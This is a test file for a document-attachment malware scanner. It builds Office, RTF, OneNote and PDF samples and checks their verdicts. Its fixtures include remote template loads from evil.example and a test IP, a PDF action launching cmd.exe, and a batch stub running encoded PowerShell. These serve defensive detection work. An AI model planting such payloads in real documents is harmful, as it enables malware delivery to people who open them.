import { describe, expect, it } from 'vitest';
import { compound } from '../fixtures/compound.ts';
import {
  ATTACK,
  doc97,
  docm,
  docx,
  odt,
  olePackage,
  pdf,
  png,
  rtf,
  TIDY,
  vbaProject,
  xlsm,
  xlsx,
} from '../fixtures/documents.ts';
import { windowsProgram } from '../fixtures/programs.ts';
import { judgeFile } from '../fixtures/scan.ts';

const relations = (type: string, target: string, mode = 'External') =>
  Buffer.from(
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  );

describe('a macro', () => {
  it.each([
    ['order.docm', docm(ATTACK)],
    ['order.xlsm', xlsm(ATTACK)],
    ['order.doc', doc97(ATTACK)],
  ])('that starts by itself and reaches out is held: %s', async (name, bytes) => {
    const { decision, report } = await judgeFile(name, bytes);
    expect(decision.verdict).toBe('MALWARE');
    expect(decision.reason).toContain('starts by itself (autoopen) and reaches out of the document (wscript.shell)');
    expect(report.coverage['postern.attachments']).toBe('done');
  });

  it('is malware in a document of a kind that has none', async () => {
    const { decision, rules } = await judgeFile('order.docx', docm(ATTACK));
    expect(rules).toEqual(expect.arrayContaining(['macro-attack', 'macro-hidden']));
    expect(decision.verdict).toBe('MALWARE');
  });

  it('is found under another part name', async () => {
    const { rules } = await judgeFile('order.docm', docx([{ name: 'word/harmless.bin', bytes: vbaProject(ATTACK) }]));
    expect(rules).toContain('macro-attack');
  });

  it('that only does sums is clean', async () => {
    const { decision, rules } = await judgeFile('budget.xlsm', xlsm(TIDY));
    expect({ verdict: decision.verdict, rules }).toEqual({ verdict: 'CLEAN', rules: ['macro'] });
  });

  it('sheet of Excel 4 is reported', async () => {
    const { rules } = await judgeFile(
      'budget.xlsx',
      xlsx([{ name: 'xl/macrosheets/sheet1.xml', bytes: Buffer.from('<x/>') }]),
    );
    expect(rules).toContain('macro-sheet');
  });
});

describe('an Office document', () => {
  it.each([
    ['http://198.51.100.4/t.dotm', 'attachedTemplate'],
    ['\\\\198.51.100.4\\share\\t.dotm', 'attachedTemplate'],
    ['https://evil.example/o.html', 'oleObject'],
  ])('that loads %s on opening is suspicious', async (target, type) => {
    const { decision, report } = await judgeFile(
      'cv.docx',
      docx([{ name: 'word/_rels/settings.xml.rels', bytes: relations(type, target) }]),
    );
    expect(decision.verdict).toBe('SUSPICIOUS');
    expect(report.findings[0]).toMatchObject({ rule: 'postern.attachments.remote-template', facts: { target } });
  });

  it('with links to be clicked is clean', async () => {
    const bytes = docx([
      { name: 'word/_rels/document.xml.rels', bytes: relations('hyperlink', 'https://zylker.example') },
    ]);
    const { rules } = await judgeFile('letter.docx', bytes);
    expect(rules).toEqual([]);
  });

  it('with a program dropped into it is malware', async () => {
    const bytes = docx([{ name: 'word/embeddings/oleObject1.bin', bytes: olePackage('readme.txt', windowsProgram()) }]);
    const { decision } = await judgeFile('letter.docx', bytes);
    expect(decision).toMatchObject({ verdict: 'MALWARE', decidedBy: 'postern.attachments.embedded-program' });
  });

  it('with a workbook dropped into it is clean', async () => {
    const { decision, rules } = await judgeFile(
      'letter.docx',
      docx([{ name: 'word/embeddings/table.xlsx', bytes: xlsx() }]),
    );
    expect({ verdict: decision.verdict, rules }).toEqual({ verdict: 'CLEAN', rules: [] });
  });

  it('with an equation editor object is reported', async () => {
    const { rules } = await judgeFile(
      'order.rtf',
      rtf('{\\object\\objdata 01050000 02000000 0b000000 4571756174696f6e2e3300}'),
    );
    expect(rules).toEqual(['equation-object']);
  });

  it('hiding a program between control words of an RTF file is malware', async () => {
    const hex = windowsProgram()
      .toString('hex')
      .replace(/(.{40})/g, '$1\\par ');
    const { decision } = await judgeFile('order.doc', rtf(`{\\object\\objdata 0105 ${hex}}`));
    expect(decision.decidedBy).toBe('postern.attachments.embedded-program');
  });

  it('under a password is undetermined', async () => {
    const { decision } = await judgeFile(
      'salary.xlsx',
      compound([{ path: ['EncryptedPackage'], bytes: Buffer.alloc(8) }]),
    );
    expect(decision.verdict).toBe('UNDETERMINED');
  });

  it('that is an installer package is a program', async () => {
    const bytes = compound([{ path: ['x'], bytes: Buffer.alloc(8) }], '84100c0000000000c000000000000046');
    expect((await judgeFile('setup.msi', bytes)).rules).toEqual(['program']);
    expect((await judgeFile('letter.doc', bytes)).decision.verdict).toBe('MALWARE');
  });
});

describe('a OneNote section', () => {
  const section = (content: Buffer) => {
    const header = Buffer.alloc(36);
    header.write('e716e3bd65261145a4c48d4d0b7a9eac', 0, 'hex');
    header.writeUInt32LE(content.length, 16);
    return Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64), header, content]);
  };

  it('with a script behind a picture is suspicious', async () => {
    const { decision, rules } = await judgeFile('notes.one', section(Buffer.from('@echo off\r\npowershell -e AAAA')));
    expect({ verdict: decision.verdict, rules }).toEqual({ verdict: 'SUSPICIOUS', rules: ['embedded-script'] });
  });

  it('with a picture is clean', async () => {
    expect((await judgeFile('notes.one', section(png()))).rules).toEqual([]);
  });
});

describe('a PDF document', () => {
  it.each<[string, string[], string]>([
    ['starts a program', ['<< /S /Launch /F (cmd.exe) >>'], 'pdf-launch'],
    ['runs a script on opening', ['<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'], 'pdf-script-autostart'],
    ['holds a script', ['<< /S /JavaScript /JS (sum()) >>'], 'pdf-script'],
    ['hides its keys', ['<< /S /#4caunch /F (cmd.exe) >>'], 'pdf-obfuscated'],
  ])('is reported when it %s', async (_what, objects, rule) => {
    expect((await judgeFile('form.pdf', pdf(objects))).rules).toContain(rule);
  });

  it('is read inside its compressed objects', async () => {
    const bytes = pdf([], [{ dictionary: '/Type /ObjStm', bytes: Buffer.from('<< /S /Launch /F (cmd.exe) >>') }]);
    expect((await judgeFile('form.pdf', bytes)).rules).toEqual(['pdf-launch']);
  });

  it('with a program attached to it is malware', async () => {
    const bytes = pdf([], [{ dictionary: '/Type /EmbeddedFile', bytes: windowsProgram() }]);
    expect((await judgeFile('form.pdf', bytes)).decision.decidedBy).toBe('postern.attachments.embedded-program');
  });

  it('with an invoice as data attached to it is clean', async () => {
    const bytes = pdf(
      [],
      [{ dictionary: '/Type /EmbeddedFile', bytes: Buffer.from('<?xml version="1.0"?><Invoice/>') }],
    );
    expect((await judgeFile('invoice.pdf', bytes)).rules).toEqual([]);
  });

  it('is not judged by what its compressed pages happen to contain', async () => {
    const page = Buffer.from('5 0 obj\n<< /Length 30 >>\nstream\n/Launch /JavaScript /OpenAction\nendstream\nendobj\n');
    expect((await judgeFile('form.pdf', Buffer.concat([pdf(), page]))).rules).toEqual([]);
  });
});

describe('plain documents', () => {
  it.each<[string, Buffer]>([
    ['letter.docx', docx()],
    ['table.xlsx', xlsx()],
    ['letter.odt', odt()],
    ['letter.doc', doc97()],
    ['letter.doc', rtf()],
    ['export.xls', Buffer.from('<html><table><tr><td>1</td></tr></table></html>')],
    ['report.pdf', pdf(['<< /OpenAction [3 0 R /Fit] >>'])],
  ])('are clean: %s', async (name, bytes) => {
    const { decision, rules } = await judgeFile(name, bytes);
    expect({ verdict: decision.verdict, rules }).toEqual({ verdict: 'CLEAN', rules: [] });
  });
});
